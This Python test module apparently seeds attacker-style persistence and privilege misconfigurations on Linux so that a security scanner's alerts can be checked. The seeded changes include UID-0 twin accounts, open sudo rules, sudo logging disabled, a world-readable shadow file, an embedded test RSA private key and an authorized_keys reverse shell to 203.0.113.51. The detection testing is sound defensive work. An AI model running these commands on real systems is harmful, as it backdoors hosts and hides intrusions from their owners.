"""Accounts, keys, groups and sudo (ATT&CK T1136, T1098, T1548.003, T1552.004)."""

from __future__ import annotations

from tests.behaviours.behaviour import Behaviour

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{} {}\n"


def key(letter: str, comment: str) -> str:
    """A public key that nobody has the private half of."""
    return KEY.format(letter * 43, comment)


# An RSA key of 512 bits, made for these tests: it protects nothing.
PRIVATE_KEY = """-----BEGIN RSA PRIVATE KEY-----
MIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu
KUpRKfFLfRYC9AIKjbJTWit+CqvjWYzvQwECAwEAAQJAIJLixBy2qpFoS4DSmoEm
o3qGy0t6z09AIJtH+5OeRV1be+N4cDYJKffGzDa88vQENZiRm0GRq6a+HPGQMd2k
TQIhAKMSvzIBnni7ot/OSie2TmJLY4SwTQAevXysE2RbFDYdAiEBCUEaRQnMnbp7
9mxDXDf6AU0cN/RPBjb9qSHDcWZHGzUCIG2Es59z8ugGrDY+pxLQnwfotadxd+Uy
v/Ow5T0q5gIJAiEAyS4RaI9YG8EWx/2w0T67ZUVAw8eOMB6BIUg0Xcu+3okCIBOs
/5OiPgoTdSy7bcF9IGpSE8ZgGKzgYQVZeN97YE00
-----END RSA PRIVATE KEY-----
"""

BEHAVIOURS = (
    Behaviour(
        name="second_account_with_uid_zero",
        techniques=("T1136.001", "T1098"),
        does="A line in passwd gives a second name to root.",
        marks=("toor-sync",),
        raises=("user_uid_zero_twin",),
        shell="echo 'toor-sync:x:0:0::/var/lib/toor:/bin/bash' >> /etc/passwd",
    ),
    Behaviour(
        name="account_without_password",
        techniques=("T1078.003",),
        does="An account may sign in without a password.",
        marks=("guest-kiosk",),
        raises=("user_password_empty",),
        shell="echo 'guest-kiosk:x:2401:2401::/home/guest:/bin/bash' >> /etc/passwd\necho 'guest-kiosk::19000:0:99999:7:::' >> /etc/shadow",
    ),
    Behaviour(
        name="service_account_gets_login_shell",
        techniques=("T1078.003", "T1098"),
        does="The account of the printing system gets a shell.",
        marks=("/var/spool/lpd",),
        raises=("user_service_account_login_shell",),
        shell="sed -i '/^lp:/d' /etc/passwd; echo 'lp:x:7:7:lp:/var/spool/lpd:/bin/bash' >> /etc/passwd",
    ),
    Behaviour(
        name="account_with_home_in_dev_shm",
        techniques=("T1136.001",),
        does="An account lives in shared memory.",
        marks=("/dev/shm/svc",),
        raises=("user_home_temporary_directory",),
        shell="echo 'svc-net:x:2402:2402::/dev/shm/svc:/bin/sh' >> /etc/passwd",
    ),
    Behaviour(
        name="second_group_with_gid_zero",
        techniques=("T1098",),
        does="A group with another name has root's number.",
        marks=("wheel2",),
        raises=("group_gid_zero_twin",),
        shell="echo 'wheel2:x:0:games' >> /etc/group",
    ),
    Behaviour(
        name="key_of_service_account",
        techniques=("T1098.004",),
        does="A key lets somebody sign in as the account of the mail system.",
        marks=("/var/mail/.ssh/authorized_keys",),
        raises=("authorized_key_service_account",),
        files={"/var/mail/.ssh/authorized_keys": key("A", "backup@office")},
        modes={"/var/mail/.ssh/authorized_keys": 0o600},
    ),
    Behaviour(
        name="key_with_command_that_opens_shell",
        techniques=("T1098.004", "T1059.004"),
        does="A key of root runs a reverse shell whatever its holder asks for.",
        marks=("fp-forced",),
        raises=("authorized_key_forced_command_shell",),
        shell='mkdir -p /root/.ssh; echo \'command="bash -i >& /dev/tcp/203.0.113.51/443 0>&1" '
        + key("B", "fp-forced").strip()
        + "' >> /root/.ssh/authorized_keys",
    ),
    Behaviour(
        name="key_that_injects_library",
        techniques=("T1098.004", "T1574.006"),
        does="A key of root sets LD_PRELOAD for the session.",
        marks=("fp-environment",),
        raises=("authorized_key_environment_injection",),
        shell='echo \'environment="LD_PRELOAD=/usr/local/lib/x.so" '
        + key("C", "fp-environment").strip()
        + "' >> /root/.ssh/authorized_keys",
    ),
    Behaviour(
        name="key_file_writable_by_everybody",
        techniques=("T1098.004",),
        does="Anybody may add keys that sign in as a user.",
        marks=("/home/dora/.ssh/authorized_keys",),
        raises=("authorized_key_file_writable_by_others",),
        files={"/home/dora/.ssh/authorized_keys": key("D", "dora@laptop")},
        shell="echo 'dora:x:2403:2403::/home/dora:/bin/bash' >> /etc/passwd; chown -R 2403:2403 /home/dora\n"
        "chmod 666 /home/dora/.ssh/authorized_keys",
    ),
    Behaviour(
        name="key_file_below_tmp",
        techniques=("T1098.004",),
        does="An account of a service lives in /tmp and has keys there.",
        marks=("/tmp/.ftp/.ssh/authorized_keys", "/tmp/.ftp"),
        raises=("authorized_key_unusual_path", "user_home_temporary_directory"),
        files={"/tmp/.ftp/.ssh/authorized_keys": key("E", "ftp@x")},
        modes={"/tmp/.ftp/.ssh/authorized_keys": 0o600},
        shell="echo 'ftpd:x:2404:2404::/tmp/.ftp:/bin/sh' >> /etc/passwd; chown -R 2404:2404 /tmp/.ftp",
    ),
    Behaviour(
        name="host_keys_of_every_name_trusted",
        techniques=("T1557",),
        does="A line of known_hosts trusts one key for all names, so that a machine between is not noticed.",
        marks=("/root/.ssh/known_hosts",),
        raises=("known_host_any_name_one_key",),
        files={"/root/.ssh/known_hosts": "* " + key("F", "")},
        modes={"/root/.ssh/known_hosts": 0o600},
    ),
    Behaviour(
        name="authority_trusted_for_all_hosts",
        techniques=("T1557",),
        does="The system's known_hosts trusts an authority for every name.",
        marks=("/etc/ssh/ssh_known_hosts",),
        raises=("known_host_authority_for_all",),
        files={"/etc/ssh/ssh_known_hosts": "@cert-authority * " + key("G", "")},
    ),
    Behaviour(
        name="service_account_went_to_other_hosts",
        techniques=("T1021.004",),
        does="The web server's account has been on other hosts over SSH.",
        marks=("/var/www/.ssh/known_hosts",),
        raises=("known_host_of_service_account",),
        files={"/var/www/.ssh/known_hosts": "10.0.0.7 " + key("H", "")},
        shell="chown -R 33:33 /var/www/.ssh",
    ),
    Behaviour(
        name="private_key_in_web_root",
        techniques=("T1552.004",),
        does="A private key lies where the web server gives it to everybody.",
        marks=("/var/www/html/backup/id_rsa",),
        raises=("private_key_in_web_directory", "private_key_readable_by_others", "private_key_weak"),
        files={"/var/www/html/backup/id_rsa": PRIVATE_KEY},
    ),
    Behaviour(
        name="private_key_staged_in_tmp",
        techniques=("T1552.004",),
        does="A stolen private key lies in /tmp.",
        marks=("/tmp/k.pem",),
        raises=("private_key_in_temporary_directory",),
        files={"/tmp/k.pem": PRIVATE_KEY},
        modes={"/tmp/k.pem": 0o600},
    ),
    Behaviour(
        name="private_key_of_service_account",
        techniques=("T1552.004", "T1021.004"),
        does="The account of the mail system holds a key to go on to other hosts.",
        marks=("/var/mail/.ssh/id_rsa",),
        raises=("private_key_of_service_account",),
        files={"/var/mail/.ssh/id_rsa": PRIVATE_KEY},
        modes={"/var/mail/.ssh/id_rsa": 0o600},
        shell="chown 8:8 /var/mail/.ssh/id_rsa",
    ),
    Behaviour(
        name="private_key_of_user_taken_over",
        techniques=("T1552.004",),
        does="A key in a user's home belongs to another account.",
        marks=("/home/emil/.ssh/id_rsa",),
        raises=("private_key_of_other_owner",),
        files={"/home/emil/.ssh/id_rsa": PRIVATE_KEY},
        modes={"/home/emil/.ssh/id_rsa": 0o600},
        shell="echo 'emil:x:2405:2405::/home/emil:/bin/bash' >> /etc/passwd; chown 2405:2405 /home/emil /home/emil/.ssh\n"
        "chown 33:33 /home/emil/.ssh/id_rsa",
    ),
    Behaviour(
        name="sudo_everybody_without_password",
        techniques=("T1548.003",),
        does="Everybody may do everything as root without a password.",
        marks=("/etc/sudoers.d/zz-all",),
        raises=("sudo_rule_everybody_without_password",),
        files={"/etc/sudoers.d/zz-all": "ALL ALL=(ALL) NOPASSWD: ALL\n"},
        modes={"/etc/sudoers.d/zz-all": 0o440},
    ),
    Behaviour(
        name="sudo_for_web_server",
        techniques=("T1548.003", "T1078.003"),
        does="The web server's account may do everything as root.",
        marks=("/etc/sudoers.d/www",),
        raises=("sudo_rule_service_account_as_root",),
        files={"/etc/sudoers.d/www": "www-data ALL=(root) NOPASSWD: ALL\n"},
        modes={"/etc/sudoers.d/www": 0o440},
    ),
    Behaviour(
        name="sudo_without_password_for_editor",
        techniques=("T1548.003",),
        does="A user may run an editor as root without a password, which gives a shell.",
        marks=("/etc/sudoers.d/edit",),
        raises=("sudo_rule_nopasswd_interpreter",),
        files={"/etc/sudoers.d/edit": "fred ALL=(root) NOPASSWD: /usr/bin/vim\n"},
        modes={"/etc/sudoers.d/edit": 0o440},
    ),
    Behaviour(
        name="sudo_command_in_home",
        techniques=("T1548.003",),
        does="A user may run a script in a home as root, and change it.",
        marks=("/etc/sudoers.d/deploy",),
        raises=("sudo_rule_command_in_user_directory", "sudo_rule_command_writable"),
        files={
            "/etc/sudoers.d/deploy": "gina ALL=(root) /home/gina/deploy.sh\n",
            "/home/gina/deploy.sh": "#!/bin/sh\n",
        },
        modes={"/etc/sudoers.d/deploy": 0o440, "/home/gina/deploy.sh": 0o755},
        shell="chown -R 2406:2406 /home/gina",
    ),
    Behaviour(
        name="sudo_keeps_loader_variables",
        techniques=("T1548.003", "T1574.006"),
        does="sudo hands LD_PRELOAD on to the commands that it starts.",
        marks=("/etc/sudoers.d/env",),
        raises=("sudo_rule_keeps_loader_environment",),
        files={"/etc/sudoers.d/env": 'Defaults env_keep += "LD_PRELOAD LANG"\n'},
        modes={"/etc/sudoers.d/env": 0o440},
    ),
    Behaviour(
        name="sudo_asks_nobody_for_a_password",
        techniques=("T1548.003",),
        does="A default of sudo switches authentication off for all.",
        marks=("/etc/sudoers.d/auth",),
        raises=("sudo_rule_authentication_disabled",),
        files={"/etc/sudoers.d/auth": "Defaults !authenticate\n"},
        modes={"/etc/sudoers.d/auth": 0o440},
    ),
    Behaviour(
        name="sudo_says_nothing_to_the_log",
        techniques=("T1562.001",),
        does="A default of sudo switches its log off.",
        marks=("/etc/sudoers.d/quiet",),
        raises=("sudo_rule_logging_disabled",),
        files={"/etc/sudoers.d/quiet": "Defaults !syslog\n"},
        modes={"/etc/sudoers.d/quiet": 0o440},
    ),
    Behaviour(
        name="sudo_ticket_never_ends",
        techniques=("T1548.003",),
        does="A password that was typed once holds for ever and in all terminals.",
        marks=("/etc/sudoers.d/ticket",),
        raises=("sudo_rule_ticket_shared_or_endless",),
        files={"/etc/sudoers.d/ticket": "Defaults timestamp_timeout=-1, !tty_tickets\n"},
        modes={"/etc/sudoers.d/ticket": 0o440},
    ),
    Behaviour(
        name="sudo_path_begins_in_tmp",
        techniques=("T1548.003", "T1574"),
        does="sudo looks for commands in /tmp first.",
        marks=("/etc/sudoers.d/path",),
        raises=("sudo_rule_secure_path_writable",),
        files={"/etc/sudoers.d/path": 'Defaults secure_path="/tmp:/usr/bin:/bin"\n'},
        modes={"/etc/sudoers.d/path": 0o440},
    ),
    Behaviour(
        name="sudoers_file_of_user",
        techniques=("T1548.003", "T1222.002"),
        does="A file of sudoers.d belongs to an ordinary account.",
        marks=("/etc/sudoers.d/hans",),
        raises=("sudo_rule_file_writable_by_others",),
        files={"/etc/sudoers.d/hans": "hans ALL=(root) /usr/bin/id\n"},
        modes={"/etc/sudoers.d/hans": 0o440},
        shell="chown 1000:1000 /etc/sudoers.d/hans",
    ),
    Behaviour(
        name="sudo_lets_callers_set_the_environment",
        techniques=("T1548.003", "T1574"),
        does="sudo keeps the caller's whole environment.",
        marks=("/etc/sudoers.d/reset",),
        raises=("sudo_rule_environment_not_reset",),
        files={"/etc/sudoers.d/reset": "Defaults !env_reset\n"},
        modes={"/etc/sudoers.d/reset": 0o440},
    ),
    Behaviour(
        name="password_hash_in_list_of_accounts",
        techniques=("T1136.001", "T1098"),
        does="An account was added with its password hash in passwd.",
        marks=("hashy",),
        raises=("user_password_outside_shadow",),
        shell="echo 'hashy:$6$abcdefgh$abcdefgh:2410:2410::/home/hashy:/bin/bash' >> /etc/passwd",
    ),
    Behaviour(
        name="service_account_in_group_of_administrators",
        techniques=("T1098.007", "T1078.003"),
        does="The account of the news system may command the container engine.",
        marks=("news",),
        raises=("user_service_account_privileged_group",),
        shell="sed -i '/^docker:/d' /etc/group; echo 'docker:x:2411:news' >> /etc/group",
    ),
    Behaviour(
        name="password_hashes_readable_by_everybody",
        techniques=("T1003.008", "T1222.002"),
        does="Everybody may read the password hashes.",
        marks=("/etc/shadow",),
        raises=("file_shadow_readable_by_others",),
        shell="chmod 644 /etc/shadow",
    ),
)
